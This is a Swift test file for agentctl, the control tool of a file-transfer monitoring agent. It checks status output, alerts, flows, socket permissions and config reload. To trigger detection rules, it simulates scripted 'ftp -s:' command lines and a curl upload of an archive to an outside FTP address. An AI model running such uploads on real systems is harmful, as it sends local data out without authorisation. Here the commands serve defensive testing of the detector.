@@ -1,0 +1,185 @@
+import Foundation
+import Testing
+
+/// agentctl against the live agent on the real audit stream: numbers that move as commands
+/// run, a status document that matches its schema, alerts and flows as the agent wrote them,
+/// peers refused by their kernel credentials, reload with good and bad configurations.
+extension KernelAuditTests.FlowEndToEnd {
+    @Test func statusAlertsAndFlowsFollowWhatTheHostDoes() throws {
+        let agent = try startAgent()
+        let before = try status()
+        #expect(before.exit == 0, "healthy: \(before.text)")
+        try validateAgainstSchema(before.json)
+        #expect(before.json["pid"] as? Int == Int(agent.pid) && before.json["schema_version"] as? Int == 1)
+        #expect(value(before.json, "audit", "source") as? String == "unicast" && (value(before.json, "audit", "rules_installed") as? Int ?? 0) > 0)
+
+        let follower = try Child(Repo.agentctlRelease, ["alerts", "--socket", controlSocket, "--follow", "--json", "--last", "500"])
+        for job in 1...3 { _ = try client("/bin/true", ["ftp", "-s:control-\(job).txt"]) }
+        let upload = try randomFile("control.tar.gz", bytes: 50_000)
+        let curl = try client("/usr/bin/curl", ["-s", "-T", upload, "ftp://203.0.113.10/upload/control.tar.gz"])
+        let alerts = try waitForAlerts(atLeast: 3, of: "/usr/bin/true")
+        usleep(1_500_000)  // the flow ends and is reported; the next sample of the rates
+
+        let after = try status()
+        try validateAgainstSchema(after.json)
+        for counter in ["records", "events"] {
+            #expect((value(after.json, "audit", counter) as? Int ?? 0) > (value(before.json, "audit", counter) as? Int ?? 0), "\(counter) moved")
+        }
+        #expect((value(after.json, "audit", "records_per_second", "one_minute") as? Double ?? 0) > 0)
+        #expect((value(after.json, "detection", "execs_checked") as? Int ?? 0) >= 4)
+        let byRule = value(after.json, "detection", "alerts_by_rule") as? [String: Int] ?? [:]
+        #expect((byRule["ftp.scripted"] ?? 0) >= 3 && byRule["ftp.internet"] == 1, "\(byRule)")
+        let fileAlerts = try readAlerts()
+        #expect(value(after.json, "detection", "alerts") as? Int == fileAlerts.count)
+        #expect(value(after.json, "outputs", "file", "written") as? Int == fileAlerts.count)
+        #expect(value(after.json, "yara", "enabled") as? Bool == false || (value(after.json, "yara", "scans") as? Int ?? 0) > 0)
+        #expect(after.text.contains("health") && after.text.contains("healthy"))
+        let human = try runCommand(Repo.agentctlRelease, ["status", "--socket", controlSocket])
+        #expect(human.status == 0 && human.stdout.contains("ftp.scripted") && human.stdout.contains("xferwatchd 0."), "\(human.stdout)")
+
+        // The recent alerts are the alert file's lines, byte for byte; the follower got them as raised.
+        let recent = try runCommand(Repo.agentctlRelease, ["alerts", "--socket", controlSocket, "--json", "--last", "500"])
+        let fileLines = try String(contentsOfFile: alertFile, encoding: .utf8).split(separator: "\n").map(String.init)
+        #expect(recent.status == 0 && recent.stdout.split(separator: "\n").map(String.init) == fileLines)
+        let deadline = Date().addingTimeInterval(5)
+        while follower.stdout.split(separator: "\n").count < fileLines.count && Date() < deadline { usleep(50_000) }
+        follower.stop()
+        #expect(follower.stdout.split(separator: "\n").map(String.init) == fileLines, "followed: \(follower.stderr)")
+        let lastOne = try runCommand(Repo.agentctlRelease, ["alerts", "--socket", controlSocket, "--last", "1"])
+        let newest = try #require(fileAlerts.last)
+        #expect(lastOne.stdout.split(separator: "\n").count == 1 && lastOne.stdout.contains("  \(newest.rule)  "), "\(lastOne.stdout)")
+        #expect(alerts.contains { $0.rule == "ftp.scripted" })
+
+        let flows = try runCommand(Repo.agentctlRelease, ["flows", "--socket", controlSocket, "--json"])
+        let curlFlow = try jsonLines(flows.stdout).map(FlowView.init).first { $0.pid == Int(curl) }
+        #expect(curlFlow?.destinationIP == "203.0.113.10" && curlFlow?.networkProtocol == "ftp", "\(flows.stdout)")
+        let table = try runCommand(Repo.agentctlRelease, ["flows", "--socket", controlSocket])
+        #expect(table.stdout.contains("203.0.113.10:21") && table.stdout.contains("curl"), "\(table.stdout)")
+
+        let rules = try runCommand(Repo.agentctlRelease, ["rules", "--socket", controlSocket, "--json"])
+        let report = try #require(try JSONSerialization.jsonObject(with: Data(rules.stdout.utf8)) as? [String: Any])
+        let scripted = (report["rules"] as? [[String: Any]])?.first { $0["id"] as? String == "ftp.scripted" }
+        #expect(scripted?["alerts"] as? Int == byRule["ftp.scripted"] && scripted?["enabled"] as? Bool == true)
+        _ = try stop(agent, expecting: 1)
+    }
+
+    /// The socket is 0660 root:adm; behind it, the agent checks the peer's credentials itself.
+    @Test func onlyRootAndTheControlGroupMayAsk() throws {
+        let agent = try startAgent()
+        let agentctl = work + "/agentctl"
+        try FileManager.default.copyItem(atPath: Repo.agentctlRelease, toPath: agentctl)
+        let mode = try FileManager.default.attributesOfItem(atPath: controlSocket)[.posixPermissions] as? Int
+        #expect(mode == 0o660)
+
+        let nobody = try runCommand("/usr/sbin/runuser", ["-u", "nobody", "--", agentctl, "status", "--socket", controlSocket])
+        #expect(nobody.status == 4 && nobody.stderr.contains("permission denied"), "\(nobody)")
+        // With the file opened to everyone, the agent still refuses.
+        chmod(controlSocket, 0o666)
+        let opened = try runCommand("/usr/sbin/runuser", ["-u", "nobody", "--", agentctl, "status", "--socket", controlSocket])
+        #expect(opened.status == 4 && opened.stderr.contains("neither root nor in group adm"), "\(opened)")
+        #expect(agent.waitForStderr(containing: "control: refused uid 65534", seconds: 5))
+        chmod(controlSocket, 0o660)
+        // adm as the primary group, then as a supplementary one.
+        let primary = try runCommand("/usr/sbin/runuser", ["-u", "nobody", "-g", "adm", "--", agentctl, "status", "--socket", controlSocket])
+        #expect(primary.status == 0 && primary.stdout.contains("healthy"), "\(primary)")
+        let supplementary = try runCommand("/usr/bin/setpriv", ["--reuid=65534", "--regid=65534", "--groups=4", agentctl, "status", "--socket", controlSocket])
+        #expect(supplementary.status == 0, "\(supplementary)")
+        _ = try stop(agent, expecting: 0)
+    }
+
+    /// A good configuration is applied at once; a bad one (a pattern, a YARA file) is refused
+    /// with its reason and the running one stays; SIGHUP reloads too.
+    @Test func reloadAppliesAGoodConfigurationAndRefusesABadOne() throws {
+        let agent = try startAgent()
+        let config = work + "/agent.conf"
+        let original = try String(contentsOfFile: config, encoding: .utf8)
+        _ = try client("/bin/true", ["ftp", "-s:before.txt"])
+        _ = try waitForAlerts(atLeast: 1, of: "/usr/bin/true")
+
+        try (original + "\n[[exclusions]]\nname = \"nightly-upload\"\nrules = [\"ftp.scripted\"]\nprocess_executable = [\"/usr/bin/true\"]\n")
+            .write(toFile: config, atomically: true, encoding: .utf8)
+        let good = try runCommand(Repo.agentctlRelease, ["reload", "--socket", controlSocket])
+        #expect(good.status == 0 && good.stdout.contains("applied detection, network, exclusions"), "\(good)")
+        _ = try client("/bin/true", ["ftp", "-s:after.txt"])
+        #expect(try hits("nightly-upload", reaching: 1) == 1, "the new exclusion silences the next scripted ftp")
+
+        let withExclusion = try String(contentsOfFile: config, encoding: .utf8)
+        try (withExclusion + "\n[detection]\nscripted_ftp_patterns = [\"(unclosed\"]\n").write(toFile: config, atomically: true, encoding: .utf8)
+        let badPattern = try runCommand(Repo.agentctlRelease, ["reload", "--socket", controlSocket])
+        #expect(badPattern.status == 1 && badPattern.stderr.contains("detection.scripted_ftp_patterns"), "\(badPattern)")
+        let brokenRule = try commandsFile("broken.yar", ["rule broken { condition: }"])
+        try (withExclusion.replacingOccurrences(of: "[output.file]", with: "[rules.yara]\npaths = [\"\(brokenRule)\"]\n[output.file]"))
+            .write(toFile: config, atomically: true, encoding: .utf8)
+        let badYara = try runCommand(Repo.agentctlRelease, ["reload", "--socket", controlSocket])
+        #expect(badYara.status == 1 && badYara.stderr.contains("broken.yar"), "\(badYara)")
+        _ = try client("/bin/true", ["ftp", "-s:still.txt"])
+        #expect(try hits("nightly-upload", reaching: 2) == 2, "the running configuration stayed")
+
+        // SIGHUP: the exclusion goes, scripted ftp alerts again; a restart-only change is named.
+        try (original + "\n[host]\nmax_processes = 5000\n").write(toFile: config, atomically: true, encoding: .utf8)
+        kill(agent.pid, SIGHUP)
+        #expect(agent.waitForStderr(containing: "a restart is needed for host", seconds: 5), "\(agent.stderr.suffix(2000))")
+        _ = try client("/bin/true", ["ftp", "-s:again.txt"])
+        #expect(try waitForAlerts(atLeast: 2, of: "/usr/bin/true").contains { $0.json["process.command_line"] as? String == "/bin/true ftp -s:again.txt" })
+        let status = try self.status()
+        #expect(status.exit == 0, "\(status.text)")
+        _ = try stop(agent, expecting: 0)
+    }
+
+    /// A receiver that refuses connections makes the agent degraded (exit 1) and says why.
+    @Test func anUnreachableReceiverMakesTheAgentDegraded() throws {
+        let agent = try startAgent("[output.syslog]\naddress = \"tcp://127.0.0.1:9\"\nretry_initial_ms = 100\n")
+        #expect(agent.waitForStderr(containing: "Connection refused", seconds: 10))
+        let degraded = try status()
+        #expect(degraded.exit == 1)
+        try validateAgainstSchema(degraded.json)
+        let reasons = value(degraded.json, "health", "reasons") as? [String] ?? []
+        #expect(value(degraded.json, "health", "verdict") as? String == "degraded" && reasons.contains { $0.contains("tcp://127.0.0.1:9") }, "\(reasons)")
+        #expect(value(degraded.json, "outputs", "syslog", "connected") as? Bool == false)
+        _ = try stop(agent, expecting: 0)
+        let down = try runCommand(Repo.agentctlRelease, ["status", "--socket", controlSocket])
+        #expect(down.status == 3 && down.stderr.contains("xferwatchd is not running"), "\(down)")
+    }
+
+    // MARK: harness
+
+    /// `agentctl status --json`: exit status, the document, the raw text.
+    func status() throws -> (exit: Int32, json: [String: Any], text: String) {
+        let result = try runCommand(Repo.agentctlRelease, ["status", "--socket", controlSocket, "--json"])
+        let json = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any], "\(result)")
+        return (result.status, json, result.stdout)
+    }
+
+    func value(_ json: [String: Any], _ path: String...) -> Any? {
+        var current: Any? = json
+        for key in path { current = (current as? [String: Any])?[key] }
+        return current
+    }
+
+    /// Checks the document against docs/agentctl-status.schema.json with python3-jsonschema.
+    func validateAgainstSchema(_ json: [String: Any]) throws {
+        let document = work + "/status.json"
+        try JSONSerialization.data(withJSONObject: json).write(to: URL(fileURLWithPath: document))
+        let check = try runCommand("/usr/bin/python3", ["-c", """
+            import json, sys, jsonschema
+            schema = json.load(open(sys.argv[1]))
+            jsonschema.Draft202012Validator.check_schema(schema)
+            jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(json.load(open(sys.argv[2])))
+            """, Repo.path("docs/agentctl-status.schema.json"), document])
+        #expect(check.status == 0, "status --json does not match its schema: \(check.stderr)")
+    }
+
+    /// An exclusion's hit count once it reaches `expected` (or after 5 s).
+    func hits(_ exclusion: String, reaching expected: Int) throws -> Int? {
+        let deadline = Date().addingTimeInterval(5)
+        var last: Int?
+        repeat {
+            let rules = try runCommand(Repo.agentctlRelease, ["rules", "--socket", controlSocket, "--json"])
+            let report = try JSONSerialization.jsonObject(with: Data(rules.stdout.utf8)) as? [String: Any]
+            last = (report?["exclusions"] as? [[String: Any]])?.first { $0["name"] as? String == exclusion }?["hits"] as? Int
+            if let last, last >= expected { return last }
+            usleep(100_000)
+        } while Date() < deadline
+        return last
+    }
+}
